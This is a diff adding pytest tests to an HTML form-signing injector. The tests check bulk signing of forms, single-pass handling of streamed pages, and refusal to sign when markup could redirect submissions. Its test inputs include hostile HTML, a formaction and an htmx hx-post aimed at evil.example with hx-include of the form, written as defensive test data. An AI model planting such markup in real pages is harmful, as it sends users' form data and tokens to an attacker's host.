@@ -286,6 +286,7 @@ _FORMS_OF_A_LIST = st.sampled_from([
     "<button form=f formaction=//evil.example/>", "<base href=/x/>", "</head>", "<p>text</p>",
     "<form method=post hx-post=/h>", '<script src="/htmx.min.js"></script>',
     "<noscript><form method=post></form></noscript>", "<select name=s data-autopostback>",
+    '<noscript><button formaction=/x hx-post="/h" hx-include="form">',
 ])
 
 
@@ -389,6 +390,16 @@ def test_bare_forms_signed_in_bulk_get_what_each_would(document: str, cuts: list
             assert len(_SHARED.findall(edited)) == sum(map(len, asked))
         assert _as_one_by_one(edited, asked) == expected
         assert _form_facts(bulk) == _form_facts(one_by_one)
+        # (a token's indices are keyed where one of its forms' fields could still leave)
+        keyed: dict[str, set[tuple[bool, bool]]] = {}
+        for form in bulk.forms:
+            call = _SHARED.search(b'value="%s"' % form.written.get(f.EVENTVALIDATION,
+                                                                    "").encode())
+            if call is not None:
+                keyed.setdefault(call[2].decode(), set()).add((call[3] is not None,
+                                                               form.settled))
+        for forms in keyed.values():
+            assert {tagged for tagged, _ in forms} == {not all(s for _, s in forms)}
 
 
 def test_a_list_pages_bare_forms_are_signed_in_bulk_the_first_with_ids(
@@ -416,10 +427,36 @@ def test_a_streamed_list_pages_bare_forms_get_keyed_indices(scanner_engine: str)
     assert [form.settled for form in bulk.forms] == [False] * 5
 
 
+def test_forms_signed_in_bulk_in_many_pieces_are_checked_in_one_pass(
+        monkeypatch: pytest.MonkeyPatch) -> None:
+    """A <base href> late in a streamed page has every form sent before it checked: the
+    forms signed in bulk, a few a piece, are made PostForms in one merge, not one a piece
+    (found by a red-team pass: 16,000 pieces took 11 s where one by one took 2)."""
+    sorted_items: list[int] = []
+
+    def counting(items: list[PostForm], **kwargs: object) -> list[PostForm]:
+        sorted_items.append(len(items))
+        return sorted(items, **kwargs)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(inject, "sorted", counting, raising=False)
+    bulk, _ = _bulk_injector(True)
+    pieces = [b"<form method=post action=/first></form>"] + [
+        b'<form method="post" action="/i/%d"></form><form method="post" action="/j/%d"></form>'
+        % (n, n) for n in range(300)] + [b'<base href="/moved/">']
+    for piece in pieces:
+        bulk.feed(piece)
+    bulk.finish()
+    assert len(bulk.forms) == 601 and len(bulk._sent) == 601
+    assert sum(sorted_items) <= 2 * 601
+
+
 @pytest.mark.parametrize("document", [
     pytest.param(LIST_OF_FORMS + "<base href=/elsewhere/>", id="a-base-after-them"),
     pytest.param(LIST_OF_FORMS + "<button form=f formaction=/x>", id="a-form-id-button"),
     pytest.param(LIST_OF_FORMS + '<script src="/htmx.min.js"></script>', id="htmx"),
+    # (a <noscript> left open at the end: read for what a browser without scripts sees)
+    pytest.param(LIST_OF_FORMS + '<noscript><button formaction=/x hx-post="https://evil.example/"'
+                 ' hx-include="form">', id="htmx-in-a-noscript-left-open"),
 ])
 def test_bare_forms_are_not_signed_in_bulk_when_the_page_could_send_them_elsewhere(
         document: str) -> None:
